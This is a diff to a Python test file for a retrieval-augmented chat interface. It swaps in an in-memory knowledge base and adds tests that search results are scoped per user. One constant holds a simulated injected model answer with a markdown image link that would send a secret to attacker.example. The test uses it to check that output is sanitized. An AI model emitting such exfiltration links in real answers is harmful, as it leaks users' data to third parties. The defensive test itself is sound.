@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import re
 from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
 from typing import Any
 
 import httpx2
@@ -13,28 +14,29 @@ import pytest
 from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
 from langchain_core.messages import AIMessage, AIMessageChunk
 from langchain_core.outputs import ChatGenerationChunk
-from ui.resources import AppResources
 
 from chains.memory import ChatMemory
 from chains.options import SearchOptions
-from chains.rag import build_rag_chain
-from chains.retriever import PassageRetriever
-from core.store import KnowledgeBase
-from ingest.pipeline import Ingestor
+from core.errors import StoreUnavailable
+from core.knowledge import AccessScope
+from core.resources import Resources
+from tests.conftest import make_settings
+from tests.fakes import InMemoryKnowledgeBase
 from tests.ui.conftest import RecordingEmitter
-from ui.conversation import answer_question
+from ui.conversation import access_scope, answer_question
+from ui.runtime import ChatServices
 
-pytestmark = pytest.mark.integration
+SCOPE = AccessScope.everything()
 
 INJECTED = (
     "Apples [1]. ![tracker](https://attacker.example/c?q=SECRET) and [see](https://x.example)"
 )
 
 
-def resources(kb: KnowledgeBase, model: Any) -> AppResources:
-    chain = build_rag_chain(PassageRetriever(kb), model)
-    return AppResources(
-        settings=kb.settings, kb=kb, chain=chain, model_name="fake", ingestor=Ingestor(kb)
+def resources(kb: InMemoryKnowledgeBase, model: Any) -> ChatServices:
+    settings = make_settings(Path("/nonexistent"))
+    return ChatServices.build(
+        Resources(settings=settings, embeddings=kb.embeddings, kb=kb, chat_model=model)
     )
 
 
@@ -57,12 +59,12 @@ class PacedModel(GenericFakeChatModel):
 
 
 async def test_answer_streams_sanitized_with_cited_elements(
-    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter
+    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
 ) -> None:
     model = PacedModel(messages=iter([AIMessage(INJECTED)]))
     memory = ChatMemory()
     await answer_question(
-        resources(seeded_kb, model), "alpha text about apples", memory, SearchOptions(k=3)
+        resources(memory_kb, model), "alpha text about apples", memory, SearchOptions(k=3), SCOPE
     )
     streamed = chainlit_events.streamed_texts()
     assert len(streamed) > 3
@@ -89,34 +91,36 @@ class FailingModel(GenericFakeChatModel):
 
 
 async def test_model_failure_becomes_a_message_and_the_chat_goes_on(
-    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter
+    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
 ) -> None:
     memory = ChatMemory()
     model = FailingModel(messages=iter([]))
-    await answer_question(resources(seeded_kb, model), "alpha", memory, SearchOptions())
+    await answer_question(resources(memory_kb, model), "alpha", memory, SearchOptions(), SCOPE)
     errors = [m["output"] for m in chainlit_events.of("new_message") if m.get("isError")]
     assert errors == ["The language model did not answer in time. Please try again in a moment."]
     assert "(the answer was cut off)" in final_message(chainlit_events)["output"]
     assert len(memory) == 0
 
     good = GenericFakeChatModel(messages=iter([AIMessage("Fine now [1].")]))
-    await answer_question(resources(seeded_kb, good), "alpha", memory, SearchOptions())
+    await answer_question(resources(memory_kb, good), "alpha", memory, SearchOptions(), SCOPE)
     assert final_message(chainlit_events)["output"] == "Fine now [1]."
 
 
 async def test_store_failure_becomes_a_message(
-    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter, monkeypatch: pytest.MonkeyPatch
+    memory_kb: InMemoryKnowledgeBase,
+    chainlit_events: RecordingEmitter,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    from pymilvus import MilvusException
-
     async def down(*args: Any, **kwargs: Any) -> Any:
-        raise MilvusException(message="connection refused")
+        raise StoreUnavailable("Could not search the knowledge base right now.")
 
-    monkeypatch.setattr(seeded_kb.store, "asimilarity_search_with_score", down)
+    monkeypatch.setattr(memory_kb, "search", down)
     model = GenericFakeChatModel(messages=iter([AIMessage("unused")]))
-    await answer_question(resources(seeded_kb, model), "alpha", ChatMemory(), SearchOptions())
+    await answer_question(
+        resources(memory_kb, model), "alpha", ChatMemory(), SearchOptions(), SCOPE
+    )
     errors = [m["output"] for m in chainlit_events.of("new_message") if m.get("isError")]
-    assert len(errors) == 1 and "knowledge base could not be searched" in errors[0]
+    assert errors == ["Could not search the knowledge base right now."]
     failed_steps = [s for s in chainlit_events.of("update_message") if s.get("isError")]
     assert failed_steps and failed_steps[-1]["output"].startswith("Failed:")
 
@@ -130,12 +134,16 @@ class SlowModel(GenericFakeChatModel):
 
 
 async def test_stop_ends_the_stream_cleanly(
-    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter
+    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
 ) -> None:
     memory = ChatMemory()
     task = asyncio.create_task(
         answer_question(
-            resources(seeded_kb, SlowModel(messages=iter([]))), "alpha", memory, SearchOptions()
+            resources(memory_kb, SlowModel(messages=iter([]))),
+            "alpha",
+            memory,
+            SearchOptions(),
+            SCOPE,
         )
     )
     await asyncio.wait_for(chainlit_events.streaming.wait(), timeout=30)
@@ -146,3 +154,23 @@ async def test_stop_ends_the_stream_cleanly(
     final = final_message(chainlit_events)["output"]
     assert final.startswith("One two three") and final.endswith("*(stopped)*")
     assert len(memory) == 0
+
+
+def test_the_search_scope_comes_from_the_session_user() -> None:
+    mine = access_scope("ada", SearchOptions(), "chat-1")
+    assert mine == AccessScope.for_user("ada")
+    chat_only = access_scope("ada", SearchOptions(scope="chat"), "chat-1")
+    assert chat_only == AccessScope.for_user("ada").in_chat("chat-1")
+
+
+async def test_the_answer_searches_with_the_scope_it_is_given(
+    memory_kb: InMemoryKnowledgeBase, chainlit_events: RecordingEmitter
+) -> None:
+    model = GenericFakeChatModel(messages=iter([AIMessage("Dates [1].")]))
+    scope = AccessScope.for_user("bob")
+    await answer_question(
+        resources(memory_kb, model), "alpha text about apples", ChatMemory(), SearchOptions(), scope
+    )
+    assert [r.scope for r in memory_kb.searches] == [scope]
+    steps = [s for s in chainlit_events.of("update_message") if s.get("type") == "retrieval"]
+    assert "a.txt" not in steps[-1]["output"]  # alice's upload is not bob's to see
